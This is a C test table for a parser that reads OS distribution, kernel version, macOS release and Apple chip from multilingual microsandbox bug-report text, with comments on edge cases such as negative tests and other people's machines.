	{ "* Operating System: Windows 11 Pro\n", "windows", "Windows 11 Pro", NULL, NULL, NULL },
	/* (1419) another package's version-release from dnf or yum is no
	 * kernel; an RPM kernel's release is a build number */
	{ "$ dnf -q check-update\nmicrosandbox.x86_64     0.10.9-1.el9     microsandbox\n"
	  "podman.x86_64           5.2.2-1.el9      appstream\n", NULL, NULL, NULL, NULL, NULL },
	{ "$ cat /etc/almalinux-release\nAlmaLinux release 9.4 (Seafoam Ocelot)\n"
	  "$ yum list installed microsandbox\nmicrosandbox.x86_64   0.9.8-2.el9   @microsandbox\n",
	  "linux", "AlmaLinux release 9.4 (Seafoam Ocelot)", NULL, NULL, NULL },
	{ "CentOS Stream 9 box, 5.14.0-503.11.1.el9.x86_64 running.", "linux", "CentOS Stream 9",
	  "5.14.0-503.11.1.el9.x86_64", NULL, NULL },
	/* (1417) an Intel Mac's processor is no Apple chip: null, and an M chip
	 * named for other Macs is not taken for it; an Apple chip in the same
	 * field still is, written in lower case too */
	{ "      System Version: macOS 13.6.9 (22G830)\n      Processor Name: Quad-Core Intel Core i5\n"
	  "The M3 MacBooks of my team show the same.\n", "macos", NULL, NULL, "13.6.9", NULL },
	{ "$ sysctl -n machdep.cpu.brand_string\nIntel(R) Core(TM) i9-9880H CPU @ 2.30GHz\nmacOS 14.6\n",
	  "macos", NULL, NULL, "14.6", NULL },
	{ "      System Version: macOS 15.3 (24D60)\n      Chip: Apple M4 Pro\n", "macos", NULL, NULL, "15.3", "Apple M4 Pro" },
	{ "running it on an imac m3, sequoia 15.2", "macos", NULL, NULL, "15.2", "Apple M3" },
	{ "Betriebssystem: Ubuntu 24.04 LTS, Kernel 6.8.0-45-generic", "linux", "Ubuntu 24.04 LTS", "6.8.0-45-generic", NULL, NULL },
	{ "Runs on Rocky Linux 9.3; `uname -r` says 5.14.0-362.8.1.el9_3.x86_64.", "linux", "Rocky Linux 9.3",
	  "5.14.0-362.8.1.el9_3.x86_64", NULL, NULL },
	{ "$ sw_vers\nProductName:\t\tmacOS\nProductVersion:\t\t15.1.1\nBuildVersion:\t\t24B91\n$ sysctl -n machdep.cpu.brand_string\nApple M3 Pro\n",
	  "macos", NULL, NULL, "15.1.1", "Apple M3 Pro" },
	{ "I'm using msb 0.6.14 on macOS 15.1 on an M2 Max.", "macos", NULL, NULL, "15.1", "Apple M2 Max" },
	{ "msb 0.6.14, macOS Sonoma 14.7.1 on a MacBook Air (M1).", "macos", NULL, NULL, "14.7.1", "Apple M1" },
	{ "Hardware:\n      Chip: Apple M3 Pro\nSoftware:\n      System Version: macOS 14.6.1 (23G93)\n",
	  "macos", NULL, NULL, "14.6.1", "Apple M3 Pro" },
	{ "machdep.cpu.brand_string: Apple M4\nmacOS 15.2", "macos", NULL, NULL, "15.2", "Apple M4" },
	{ "MacBook Pro (M1 Pro), macOS Ventura 13.6", "macos", NULL, NULL, "13.6", "Apple M1 Pro" },
	{ "Microsoft Windows [Version 10.0.22631.4460] (Windows 11 Pro 23H2) with WHP enabled.",
	  "windows", "Windows 11 Pro 23H2", "10.0.22631.4460", NULL, NULL },
	{ "OS Name:                   Microsoft Windows 11 Pro\nOS Version:                10.0.22631 N/A Build 22631\n",
	  "windows", "Windows 11 Pro", "10.0.22631", NULL, NULL },
	{ "Host is Windows 10 Pro 22H2, OS Build 19045.5131.", "windows", "Windows 10 Pro 22H2", "19045.5131", NULL, NULL },
	{ "- OS: Ubuntu 24.04 LTS (kernel 6.8.0-49-generic)", "linux", "Ubuntu 24.04 LTS", "6.8.0-49-generic", NULL, NULL },
	{ "Système : Debian 12, noyau 6.1.0-25-amd64", "linux", "Debian 12", "6.1.0-25-amd64", NULL, NULL },
	{ "Tested with microsandbox v0.6.14 on Pop!_OS 22.04 LTS, 6.9.3-76060903-generic", "linux",
	  "Pop!_OS 22.04 LTS", "6.9.3-76060903-generic", NULL, NULL },
	{ "Ubuntu 24.04 under WSL2, 5.15.153.1-microsoft-standard-WSL2", "linux", "Ubuntu 24.04",
	  "5.15.153.1-microsoft-standard-WSL2", NULL, NULL },
	{ "| OS | Fedora 41 |\n| Kernel | 6.11.4-301.fc41.x86_64 |\n", "linux", "Fedora 41", "6.11.4-301.fc41.x86_64", NULL, NULL },
	{ "$ cat /proc/version\nLinux version 6.8.0-48-generic (buildd@lcy02) (gcc 13.2.0)\nOS: Linux Mint 22\n",
	  "linux", "Linux Mint 22", "6.8.0-48-generic", NULL, NULL },
	{ "Debian bookworm, stock 6.1 kernel", "linux", "Debian bookworm", "6.1", NULL, NULL },
	{ "my laptop, Sonoma 14.5 on my M3", "macos", NULL, NULL, "14.5", "Apple M3" },
	/* (1584) the release's name, then its number: the number wins */
	{ "iMac (M3), macOS Sequoia, versione 15.1.1, msb from the pkg.", "macos", NULL, NULL, "15.1.1", "Apple M3" },
	{ "MacBook Pro M2, Ventura (13.6.9).", "macos", NULL, NULL, "13.6.9", "Apple M2" },
	{ "Mac mini M1, macOS Sonoma, 2024 model year.", "macos", NULL, NULL, "Sonoma", "Apple M1" },
	/* round 12: the chip after "w/" or a word for chip in another language */
	{ "python 3.13, Mac Studio (2025) w/ M4 Max, macOS 15.6.1 (24G90)", "macos", NULL, NULL, "15.6.1", "Apple M4 Max" },
	{ "un MacBook Air de 2024, puce M3, sous macOS Sequoia 15.2.", "macos", NULL, NULL, "15.2", "Apple M3" },
	/* a runner's machine image is the host; a guest image is not */
	{ "Runner is the usual image: Debian trixie, uname -r says 6.12.38+deb13-amd64.",
	  "linux", "Debian trixie", "6.12.38+deb13-amd64", NULL, NULL },
	{ "Mac OS X 10.15.7 on a MacBook Pro 16\" (M1 Max, 2021)", "macos", NULL, NULL, "10.15.7", "Apple M1 Max" },
	/* the chip after its name or after a Mac with "with" in another
	 * language; a machine the writer does not run msb on is none (#3) */
	{ "Testirano na Mac mini z M4 \xc4\x8dipom, macOS 15.2.", "macos", NULL, NULL, "15.2", "Apple M4" },
	{ "Mi equipo: MacBook Pro con M3 Pro, macOS 14.6.1", "macos", NULL, NULL, "14.6.1", "Apple M3 Pro" },
	/* issue #3: a word for chip or processor between "with" and the chip,
	 * and the chip before the noun as Japanese, Chinese, Korean and
	 * Turkish put it; an M.2 drive is no chip */
	{ "Portátil: MacBook Air con el procesador M2, macOS 14.7.", "macos", NULL, NULL, "14.7", "Apple M2" },
	{ "Ноутбук: MacBook Pro с процессором M3 Max, macOS 15.1.", "macos", NULL, NULL, "15.1", "Apple M3 Max" },
	{ "Δοκιμή σε Mac mini με τσιπ M4, macOS 15.2.", "macos", NULL, NULL, "15.2", "Apple M4" },
	{ "M2 搭載の MacBook Air (macOS 14.5) で再現しました。", "macos", NULL, NULL, "14.5", "Apple M2" },
	{ "一台搭载 M1 Pro 的 MacBook Pro，macOS 13.6。", "macos", NULL, NULL, "13.6", "Apple M1 Pro" },
	{ "맥북 프로 (M4 칩), macOS 15.3 에서 재현했습니다.", "macos", NULL, NULL, "15.3", "Apple M4" },
	{ "M3 işlemcili MacBook Air, macOS 15.0 üzerinde denedim.", "macos", NULL, NULL, "15.0", "Apple M3" },
	{ "M.2 SSD 搭載のデスクトップ、Ubuntu 24.04 です。", "linux", "Ubuntu 24.04", NULL, NULL, NULL },
	{ "Solo tengo el ordenador de la oficina, con Windows 11 Pro, donde no tengo instalado microsandbox.",
	  NULL, NULL, NULL, NULL, NULL },
	{ "Ich habe nur einen PC mit Windows 11, auf dem ich msb nie benutzt habe.", NULL, NULL, NULL, NULL, NULL },
	{ "Windows 11 Pro, where msb runs as a service.", "windows", "Windows 11 Pro", NULL, NULL, NULL },
	{ "Windows 11 Pro 24H2 (26100.2314) with Hyper-V", "windows", "Windows 11 Pro 24H2", "26100.2314", NULL, NULL },
	{ "Host: Rocky Linux 9.5 (Blue Onyx), 5.14.0-503.14.1.el9_5.x86_64", "linux", "Rocky Linux 9.5 (Blue Onyx)",
	  "5.14.0-503.14.1.el9_5.x86_64", NULL, NULL },
	{ "Host: Ubuntu with kernel 6.8.0-48-generic", "linux", "Ubuntu", "6.8.0-48-generic", NULL, NULL },
	/* (#3) /etc/redhat-release's wording inside a sentence; not the
	 * release notes of a distribution */
	{ "Tested on a lab box: it is AlmaLinux release 9.3 (Shamrock Pampas Cat) with 5.14.0-362.24.1.el9_3.x86_64.",
	  "linux", "AlmaLinux release 9.3 (Shamrock Pampas Cat)", "5.14.0-362.24.1.el9_3.x86_64", NULL, NULL },
	{ "Our builders are on Red Hat Enterprise Linux release 8.10 (Ootpa).", "linux",
	  "Red Hat Enterprise Linux release 8.10 (Ootpa)", NULL, NULL, NULL },
	{ "I read the Fedora release 41 notes twice.", NULL, NULL, NULL, NULL, NULL },
	{ "OS: macOS Sequoia\nChip: M3\n", "macos", NULL, NULL, "Sequoia", "Apple M3" },
	{ "Version:\n  msb 0.6.14\nPlatform:\n  Ubuntu 24.04.1 LTS\n  uname -r: 6.8.0-49-generic\n", "linux",
	  "Ubuntu 24.04.1 LTS", "6.8.0-49-generic", NULL, NULL },
	/* held-out forms (#3) */
	{ "[[package]]\nname = \"microsandbox\"\nversion = \"0.6.12\"\n\nDistributor ID:\tUbuntu\nDescription:\tUbuntu 24.04.1 LTS\n$ uname -r\n6.8.0-49-generic\n",
	  "linux", "Ubuntu 24.04.1 LTS", "6.8.0-49-generic", NULL, NULL },
	{ "Host: Gentoo Linux, 6.6.58-gentoo-dist.", "linux", "Gentoo Linux", "6.6.58-gentoo-dist", NULL, NULL },
	{ "Chip: Apple M2 Pro\n$ sw_vers -productVersion\n14.6.1\n", "macos", NULL, NULL, "14.6.1", "Apple M2 Pro" },
	/* a host named only as a negative test is not the platform */
	{ "We could not reproduce it on a Linux host (Fedora 40, kernel 6.8).\nHost: Debian 12 (bookworm), kernel 6.1.0-28-amd64.",
	  "linux", "Debian 12 (bookworm)", "6.1.0-28-amd64", NULL, NULL },
	{ "Ubuntu 24.04 is not affected.\n$ sw_vers\nProductVersion: 14.5\nChip: Apple M2\n", "macos", NULL, NULL, "14.5", "Apple M2" },
	{ "Apple Silicon (M2), macOS 14.5", "macos", NULL, NULL, "14.5", "Apple M2" },
	/* round 34: ProductVersion quoted in a sentence; a distribution after
	 * "runs", wrapped, before the sentence's full stop (no kernel) */
	{ "sw_vers says ProductVersion 15.1.1, and it's a MacBook Pro with the M3 Pro chip.",
	  "macos", NULL, NULL, "15.1.1", "Apple M3 Pro" },
	{ "I'm on msb 0.8.4 and the laptop runs Linux\nMint.\n", "linux", "Linux Mint", NULL, NULL, NULL },
	{ "an M3 Max MacBook running macOS Sequoia 15.2", "macos", NULL, NULL, "15.2", "Apple M3 Max" },
	{ "EKS node: Amazon Linux 2023, kernel 6.1.102-108.177.amzn2023.x86_64", "linux", "Amazon Linux 2023",
	  "6.1.102-108.177.amzn2023.x86_64", NULL, NULL },
	{ "This does not affect macOS 15 hosts.\nHost: Ubuntu 24.04 LTS, kernel 6.8.0-45-generic", "linux",
	  "Ubuntu 24.04 LTS", "6.8.0-45-generic", NULL, NULL },
	{ "Reproduced on Fedora 41 (6.11.4-301.fc41.x86_64) but not on Debian 12.", "linux", "Fedora 41",
	  "6.11.4-301.fc41.x86_64", NULL, NULL },
	/* round 13: a release file; custom kernel flavours; msb inside WSL on a Windows host */
	{ "$ cat /etc/fedora-release\nFedora release 41 (Forty One)\n$ uname -r\n6.11.4-301.fc41.x86_64\n", "linux",
	  "Fedora release 41 (Forty One)", "6.11.4-301.fc41.x86_64", NULL, NULL },
	{ "arch linux, linux-mainline 6.13.0-rc4-1-mainline", "linux", "arch linux", "6.13.0-rc4-1-mainline", NULL, NULL },
	{ "Host: Ubuntu 24.04 LTS, 6.12.5-x64v3-xanmod1", "linux", "Ubuntu 24.04 LTS", "6.12.5-x64v3-xanmod1", NULL, NULL },
	{ "The laptop is Windows 11 Pro 24H2 (OS build 26100.2605), but msb runs inside WSL2:\n"
	  "Description:    Ubuntu 24.04.1 LTS\n$ uname -r\n5.15.167.4-microsoft-standard-WSL2\n", "linux",
	  "Ubuntu 24.04.1 LTS", "5.15.167.4-microsoft-standard-WSL2", NULL, NULL },
	{ "Windows 11 Pro 24H2 (26100.2605); WSL is not installed.\nThe CI box is Ubuntu 24.04.\n", "windows",
	  "Windows 11 Pro 24H2", "26100.2605", NULL, NULL },
	/* near-misses */
	{ "on Linux 5.6+ the broker uses openat2", NULL, NULL, NULL, NULL, NULL },
	{ "Darwin mbp 24.1.0 Darwin Kernel Version 24.1.0: Thu Oct 10 RELEASE_ARM64_T6000 arm64", NULL, NULL, NULL, NULL, NULL },
	{ "$ npm ls\nleak-check@1.0.0 /home/ubuntu/leak-check\n", NULL, NULL, NULL, NULL, NULL },
	{ "msb run debian:12-slim and ubuntu-24.04 runner images, python:3.12-slim", NULL, NULL, NULL, NULL, NULL },
	{ "File \"/usr/lib/python3.12/asyncio/runners.py\", line 194", NULL, NULL, NULL, NULL, NULL },
	{ "microsandbox also runs on Windows 10+ with WHP", NULL, NULL, NULL, NULL, NULL },
	/* round 27: Get-CimInstance's table gives edition and build;
	 * $PSVersionTable's "Microsoft Windows 10.0.x" is the NT version, not
	 * Windows 10; lower-case "arch" right before its kernel, and not as a
	 * word for the architecture */
	{ "PS> Get-CimInstance Win32_OperatingSystem | Select Caption, Version\n\n"
	  "Caption                       Version\n-------                       -------\n"
	  "Microsoft Windows 11 Enterprise 10.0.22631\n", "windows", "Windows 11 Enterprise", "10.0.22631", NULL, NULL },
	{ "OS                             Microsoft Windows 10.0.19045\nPlatform                       Win32NT\n",
	  "windows", NULL, "10.0.19045", NULL, NULL },
	{ "repro'd with msb 0.8.1 running arch, kernel 6.11.9-arch1-1", "linux", "arch", "6.11.9-arch1-1", NULL, NULL },
	{ "it depends on arch, kernel config and the guest image", NULL, NULL, NULL, NULL, NULL },
	{ "This hurts Ubuntu users the most.", NULL, NULL, NULL, NULL, NULL },
	{ "1. Start a sandbox: msb run -v /tmp/x:/x alpine\n2. Create a link", NULL, NULL, NULL, NULL, NULL },
	{ "The guest runs Alpine 3.20; nothing else to say.", NULL, NULL, NULL, NULL, NULL },
	{ "FROM ubuntu 22.04\n", NULL, NULL, NULL, NULL, NULL },
	/* round 35: a terse environment line, the version and the host listed */
	{ "msb 0.8.4, Ubuntu.", "linux", "Ubuntu", NULL, NULL, NULL },
	{ "microsandbox 0.8.3 / Debian", "linux", "Debian", NULL, NULL, NULL },
	{ "msb 0.8.4, Ubuntu users are hit too", NULL, NULL, NULL, NULL, NULL },
	{ "allocate 512M and 2 vCPUs; -m 1024M", NULL, NULL, NULL, NULL, NULL },
	/* a host named without any field gives "os" alone; a field wins;
	 * a negative test or a vendor's fleet names no host */
	{ "It's my MacBook, I installed microsandbox last week with brew.", "macos", NULL, NULL, NULL, NULL },
	/* 1727: Maltese joins the article to the noun ("il-MacBook"); a
	 * runner fleet or a MAC address is no host */
	{ "Ippruvajt fuq il-MacBook Air tal-uffiċċju, u ġara l-istess.", "macos", NULL, NULL, NULL, NULL },
	{ "Dan ġara fuq l-iMac tiegħi d-dar.", "macos", NULL, NULL, NULL, NULL },
	{ "Ħdimt fuq il-Mac tiegħi.", "macos", NULL, NULL, NULL, NULL },
	{ "Il-pipeline jaħdem fuq il-Mac mini runners tagħna.", NULL, NULL, NULL, NULL, NULL },
	{ "Il-Mac address tal-gateway jinbidel.", NULL, NULL, NULL, NULL, NULL },
	{ "The script opened Notepad on my Windows laptop.", "windows", NULL, NULL, NULL, NULL },
	/* (#3) the writer's machine, then said to be Linux: only the system;
	 * a Linux VM or kernel on it is no such word */
	{ "Reproduced this evening on my school laptop (Linux), msb 0.10.2.", "linux", NULL, NULL, NULL, NULL },
	{ "our dev box runs linux and has msb 0.9.1 installed.", "linux", NULL, NULL, NULL, NULL },
	{ "my laptop, a Linux VM in UTM, is where I tried msb.", NULL, NULL, NULL, NULL, NULL },
	{ "my desktop is Linux-friendly hardware, the rest I do not know.", NULL, NULL, NULL, NULL, NULL },
	{ "msb 0.8.4, I'm on macOS, no idea which version.", "macos", NULL, NULL, NULL, NULL },
	{ "I tried it on my MacBook too, but the host is Ubuntu 24.04.", "linux", "Ubuntu 24.04", NULL, NULL, NULL },
	{ "I could not reproduce it on macOS.", NULL, NULL, NULL, NULL, NULL },
	{ "We run thousands of sandboxes a day on Linux hosts.", NULL, NULL, NULL, NULL, NULL },
	{ "The Windows Subsystem for Linux guests behave differently.", NULL, NULL, NULL, NULL, NULL },
	{ "microsandbox also runs on macOS with Hypervisor.framework", NULL, NULL, NULL, NULL, NULL },
	/* round 33: Windows 11 whose registry ProductName still says Windows
	 * 10 is told by its build (22000 and up); a real Windows 10 build
	 * keeps its name */
	{ "    ProductName    REG_SZ    Windows 10 Pro\n    CurrentBuild    REG_SZ    26100\n"
	  "The machine is on build 26100.2518.\n", "windows", "Windows 11 Pro", "26100.2518", NULL, NULL },
	{ "WindowsProductName : Windows 10 Enterprise\nOsVersion : 10.0.22631\n", "windows",
	  "Windows 11 Enterprise", "10.0.22631", NULL, NULL },
	{ "WindowsProductName : Windows 10 Pro\nOsVersion : 10.0.19045\n", "windows",
	  "Windows 10 Pro", "10.0.19045", NULL, NULL },
	/* a cloud VM's image named by its metadata service or its AMI */
	{ "  \"image\": {\n    \"offer\": \"ubuntu-24_04-lts\",\n    \"publisher\": \"canonical\",\n"
	  "    \"version\": \"24.04.202411030\"\n  }\n$ uname -r\n6.8.0-1017-azure\n", "linux",
	  "Ubuntu 24.04", "6.8.0-1017-azure", NULL, NULL },
	{ "AMI: ubuntu/images/hvm-ssd-gp3/ubuntu-noble-24.04-amd64-server-20241115, kernel 6.8.0-1018-aws\n",
	  "linux", "Ubuntu 24.04", "6.8.0-1018-aws", NULL, NULL },
	/* `sysctl kern.osproductversion` gives the macOS version */
	{ "kern.osproductversion: 14.7.1\nmachdep.cpu.brand_string: Apple M2 Pro\n", "macos", NULL, NULL,
	  "14.7.1", "Apple M2 Pro" },
	/* round 42: a word size and a code name in parentheses; Apple's own
	 * model name with the chip inside the list */
	{ "The Pi runs Raspberry Pi OS 64-bit (bookworm), uname -r says\n6.6.51+rpt-rpi-2712.", "linux",
	  "Raspberry Pi OS 64-bit (bookworm)", "6.6.51+rpt-rpi-2712", NULL, NULL },
	{ "The Mac is an iMac (24-inch, M1, 2021) on macOS Sequoia 15.2.", "macos", NULL, NULL, "15.2", "Apple M1" },
	{ "me and my flatmate share the linux desktop in our flat", "linux", NULL, NULL, NULL, NULL },
	/* round 106 (1243): the machine the writer or his team has, told in
	 * a sentence, names the OS alone; a Linux VM or guest, the Linux
	 * kernel as a topic, Linux servers in general do not */
	{ "In the office we run two Linux boxes for the CI jobs, msb on both.", "linux", NULL, NULL, NULL, NULL },
	{ "I tried it on a spare linux laptop before writing to you.", "linux", NULL, NULL, NULL, NULL },
	{ "The sandbox boots a Linux VM for each job, we have a Linux guest image of our own.", NULL, NULL, NULL, NULL, NULL },
	{ "We have a Linux kernel expert on the team who read the virtio code.", NULL, NULL, NULL, NULL, NULL },
	{ "Most people run msb on a Linux server, I think.", NULL, NULL, NULL, NULL, NULL },
	/* round 51: a table of hosts whose Mac row says it was not tested:
	 * the hosts the report ran on give the platform, not the fuller row */
	{ "  node    OS                      kernel                  result\n"
	  "  box-a   Fedora Linux 40         6.10.3-200.fc40.x86_64  reproduced\n"
	  "  mini-2  macOS 14.6, Apple M2    (Darwin 23.6.0)         not tested\n",
	  "linux", "Fedora Linux 40", "6.10.3-200.fc40.x86_64", NULL, NULL },
	/* round 51: a customer's machines named beside the facts, the kernel
	 * wrapped under the distro; a distro of rebuild containers */
	{ "Node SDK (customer CI runners)  0.8.2   Debian GNU/Linux 12,\n"
	  "                                        6.1.0-26-amd64\n", NULL, NULL, NULL, NULL, NULL },
	{ "We repeated the build in Alpine 3.20 containers with the same flags.", NULL, NULL, NULL, NULL, NULL },
	/* (#3) a machine image the host runs, told by the machines before
	 * it, is the host's distro; a guest's or build's image is not */
	{ "Our build agents are laptops that all get the Fedora 41 image from IT.", "linux",
	  "Fedora 41", NULL, NULL, NULL },
	{ "Setup: the lab servers boot the stock Debian 12 image, msb 0.11.0.", "linux", "Debian 12",
	  NULL, NULL, NULL },
	{ "The sandbox was started from the Ubuntu 24.04 image with --net none.", NULL, NULL, NULL,
	  NULL, NULL },
	{ "CI tests ran in Debian 12 chroots only.", NULL, NULL, NULL, NULL, NULL },
	/* ... but the reporter's own client side of a client-server test is the host */
	{ "Client machine: Ubuntu 22.04.4 LTS, kernel 5.15.0-119-generic.", "linux",
	  "Ubuntu 22.04.4 LTS", "5.15.0-119-generic", NULL, NULL },
	/* round 48: a bare "macOS" as an environment list item */
	{ "## Environment\n\n- microsandbox Python SDK 0.8.4\n- Python 3.12.2\n- macOS\n", "macos",
	  NULL, NULL, NULL, NULL },
	/* issue #3: facts gathered by automation or dumped as configuration */
	{ "ansible_distribution: Ubuntu\nansible_distribution_version: '24.04'\nansible_kernel: 6.8.0-49-generic\n",
	  "linux", "Ubuntu 24.04", "6.8.0-49-generic", NULL, NULL },
	{ "\"platform\": \"rocky\",\n\"platform_family\": \"rhel\",\n\"platform_version\": \"9.5\",\n\"kernel_release\": \"5.14.0-503.14.1.el9_5.x86_64\"\n",
	  "linux", "Rocky 9.5", "5.14.0-503.14.1.el9_5.x86_64", NULL, NULL },
	{ "guest_kernel: 6.1.55\nplatform: linux\n", NULL, NULL, NULL, NULL, NULL },
	/* (#3) the system token of another client's user agent or version
	 * banner is where that tool ran, not a host msb runs on; a uname line
	 * or prose beside it still is */
	{ "$ gcloud --version\ngsutil/5.31 python/3.11.9 Linux/6.9.3-arch1-1 google-cloud-sdk/480.0\n",
	  NULL, NULL, NULL, NULL, NULL },
	{ "s3cmd/2.4.0 Python/3.12.1 Darwin/24.1.0 exe/arm64\n", NULL, NULL, NULL, NULL, NULL },
	{ "mc/2024.11 Python/3.12.6 Linux/6.10.14-arch1-1\nHost: Fedora Linux 41, kernel 6.11.10-300.fc41.x86_64\n",
	  "linux", "Fedora Linux 41", "6.11.10-300.fc41.x86_64", NULL, NULL },
	{ "Tested on Linux 6.10.14-arch1-1 (Arch Linux).\n", "linux", "Arch Linux", "6.10.14-arch1-1", NULL, NULL },
	/* Python's platform.platform() in a notebook or a bug template */
	{ "Platform: Linux-6.11.10-300.fc41.x86_64-x86_64-with-glibc2.40\n", "linux", NULL,
	  "6.11.10-300.fc41.x86_64", NULL, NULL },
	{ ">>> platform.platform()\n'macOS-14.7.1-arm64-arm-64bit'\n", "macos", NULL, NULL, "14.7.1", NULL },
	/* a kernel named in the plural after the hosts */
	{ "Our Debian 12 servers (6.1 kernels) all show it.\n", "linux", "Debian 12", "6.1", NULL, NULL },
	/* a machine that is his, her or a named person's is someone else's */
	{ "Priya first hit it on her MacBook Pro (M4 Pro, macOS 15.2). Everything below is from my box:\n"
	  "PRETTY_NAME=\"Fedora Linux 41 (Workstation Edition)\"\n$ uname -r\n6.11.10-300.fc41.x86_64\n",
	  "linux", "Fedora Linux 41 (Workstation Edition)", "6.11.10-300.fc41.x86_64", NULL, NULL },
	{ "Jonas's laptop (macOS 14.7.1, M2) shows it as well.\nMy own box: Debian 12, kernel 6.1.0-28-amd64.\n",
	  "linux", "Debian 12", "6.1.0-28-amd64", NULL, NULL },
	{ "Mein Kollege hat es auf seinem MacBook (M3, macOS 15.1) gesehen. Bei mir: Ubuntu 24.04, Kernel 6.8.0-49-generic.\n",
	  "linux", "Ubuntu 24.04", "6.8.0-49-generic", NULL, NULL },
	{ "I forward this for Priya: she found it on her MacBook Air M3 with macOS 15.1.1.\n",
	  "macos", NULL, NULL, "15.1.1", "Apple M3" },
	/* round 49: a distribution no pattern names, on a labelled line or
	 * right before its kernel */
	{ "OS: Heron Linux 7, kernel 6.9.2-hrn1, x86_64", "linux", "Heron Linux 7", "6.9.2-hrn1", NULL, NULL },
	{ "The lab box runs Kestrel Linux 3.2 (kernel 6.6.8-k2).", "linux", "Kestrel Linux 3.2",
	  "6.6.8-k2", NULL, NULL },	/* issue #3: the release as the first half of a compound, inflected
	 * (Dutch, Norwegian, German, Finnish), but not a base or an image */
	{ "Het gebeurt op onze Ubuntu-24.04-machines in het lab.", "linux", "Ubuntu 24.04", NULL, NULL, NULL },
	{ "Vi ser det p\u00e5 alle Fedora 41-maskinene v\u00e5re.", "linux", "Fedora 41", NULL, NULL, NULL },
	{ "Getestet auf dem Debian-13-Buildhost, Kernel 6.12.9-amd64.", "linux", "Debian 13",
	  "6.12.9-amd64", NULL, NULL },
	{ "Toistettu AlmaLinux 9 -koneella.", "linux", "AlmaLinux 9", NULL, NULL, NULL },
	{ "The guest image is Debian-12-based; nothing else to add.", NULL, NULL, NULL, NULL, NULL },
	{ "We flash debian-12-nocloud-arm64.qcow2 onto the boards.", NULL, NULL, NULL, NULL, NULL },
	/* Arch named alone where the host is described; not the architecture
	 * field, the wiki, an archive */
	{ "Reproduced it twice at home, my desktop runs Arch with kernel 6.13.2.", "linux", "Arch", "6.13.2", NULL, NULL },
	{ "Box: old ThinkPad, Arch, kernel whatever is current.", "linux", "Arch", NULL, NULL, NULL },
	{ "Everything else is as on my Arch laptop.", "linux", "Arch", NULL, NULL, NULL },
	{ "Arch: x86_64, 16 GB of memory.", NULL, NULL, NULL, NULL, NULL },
	{ "The fix is described on the Arch wiki.", NULL, NULL, NULL, NULL, NULL },
	{ "The archive was unpacked by msb on import, arch=arm64.", NULL, NULL, NULL, NULL, NULL },
	{ "We package it for Debian, Ubuntu, Arch, and Fedora.", NULL, NULL, NULL, NULL, NULL },
	/* the chip told apart by a determiner beside the Mac; an M4 that is
	 * no Apple chip */
	{ "Only on the Mac mini (the M2 Pro model), macOS 15.3.", "macos", NULL, NULL, "15.3", "Apple M2 Pro" },
	{ "My MacBook Pro, the M3 one, macOS 14.7.2 too.", "macos", NULL, NULL, "14.7.2", "Apple M3" },
	{ "The build uses the M4 macro processor on a MacBook; macOS 15.1.", "macos", NULL, NULL, "15.1", NULL },
	{ "An M4 carbine simulator runs inside the sandbox on Linux 6.8.", "linux", NULL, "6.8", NULL, NULL },
	/* issue #3: Apple hardware named as the writer's own machine gives the system
	 * alone; not a MAC address, not a build fleet */
	{ "I did all of it from this MacBook Air in Safari.", "macos", NULL, NULL, NULL, NULL },
	{ "Das passiert auf meinem neuen MacBook Pro, im Browser.", "macos", NULL, NULL, NULL, NULL },
	{ "Lo prob\u00e9 en mi Mac con Firefox.", "macos", NULL, NULL, NULL, NULL },
	{ "The guest's MAC address changes on every restart.", NULL, NULL, NULL, NULL, NULL },
	{ "Releases are signed on the Mac mini runners in CI.", NULL, NULL, NULL, NULL, NULL },
	/* a macOS release by its name alone, in prose of any
	 * language, with a Mac near; not the places the names come from */
	{ "Tried it on the Mac Studio at the office, running Ventura, same result.", "macos", NULL, NULL,
	  "Ventura", NULL },
	{ "Mein iMac (M1) l\u00e4uft noch unter Monterey.", "macos", NULL, NULL, "Monterey", "Apple M1" },
	{ "Test\u00e9 sous Sequoia avec mon Mac mini.", "macos", NULL, NULL, "Sequoia", NULL },
	{ "Mi port\u00e1til es un MacBook Pro M3 con Tahoe.", "macos", NULL, NULL, "Tahoe", "Apple M3" },
	{ "- OS: Big Sur\n- msb 0.9.1\n", "macos", NULL, NULL, "Big Sur", NULL },
	{ "Ship the MacBook to 1402 Sonoma Ave, Santa Rosa.", "macos", NULL, NULL, NULL, NULL },
	{ "I wrote this from my Mac while staying in Sonoma for the week.", "macos", NULL, NULL, NULL, NULL },
	{ "We drove down Big Sur last summer; nothing to do with the report.", NULL, NULL, NULL, NULL, NULL },
	{ "Our office is at 88 Vineyard Rd, Sonoma, CA; msb runs on Debian 12.", "linux", "Debian 12", NULL, NULL, NULL },
	/* Raspberry Pi OS (Raspbian) as the distribution, with a word size in
	 * another language or without a release; not the attacker's Pi */
	{ "Mein Pi 4 hat Raspberry Pi OS in 64 Bit (bookworm), Kernel 6.6.31+rpt-rpi-v8.", "linux",
	  "Raspberry Pi OS in 64 Bit (bookworm)", "6.6.31+rpt-rpi-v8", NULL, NULL },
	{ "Il server di casa \u00e8 un Raspberry con Raspbian, niente di speciale.", "linux", "Raspbian",
	  NULL, NULL, NULL },
	{ "From the attacker's box, a Pi 4 running Raspberry Pi OS, I reach the sandbox; the host is Ubuntu 24.04.",
	  "linux", "Ubuntu 24.04", NULL, NULL, NULL },
	{ "Flash the Raspberry Pi OS image with Imager first.", NULL, NULL, NULL, NULL, NULL },
	/* the Windows OS build as winver shows it in other languages */
	{ "Equipo: Windows 11 Pro, versi\u00f3n 23H2 (compilaci\u00f3n del SO 22631.4460).", "windows",
	  "Windows 11 Pro 23H2", "22631.4460", NULL, NULL },
	{ "Windows 10 Home \u2014 Betriebssystembuild 19045.5247 laut winver.", "windows", "Windows 10 Home",
	  "19045.5247", NULL, NULL },
	{ "\u0421\u0431\u043e\u0440\u043a\u0430 \u041e\u0421 26100.3194, Windows 11 Home.", "windows",
	  "Windows 11 Home", "26100.3194", NULL, NULL },
	{ "Windows 11 Pro, wersja 10.0.26100.2605.", "windows", "Windows 11 Pro", "10.0.26100.2605", NULL, NULL },
	/* the release as Settings > About and winver write it, after a comma
	 * and the word for "version": edition and release (1385, 1585) */
	{ "Settings > About on this laptop says Windows 11 Enterprise, Version 24H2, and msb 0.7.1 is installed.",
	  "windows", "Windows 11 Enterprise 24H2", NULL, NULL, NULL },
	{ "Mein Rechner: Windows 10 Pro, Version 22H2, darauf l\u00e4uft msb als Dienst.", "windows",
	  "Windows 10 Pro 22H2", NULL, NULL, NULL },
	{ "Poste de test sous Windows 11 Pro, version 23h2 ; msb lanc\u00e9 depuis PowerShell.",
	  "windows", "Windows 11 Pro 23H2", NULL, NULL, NULL },
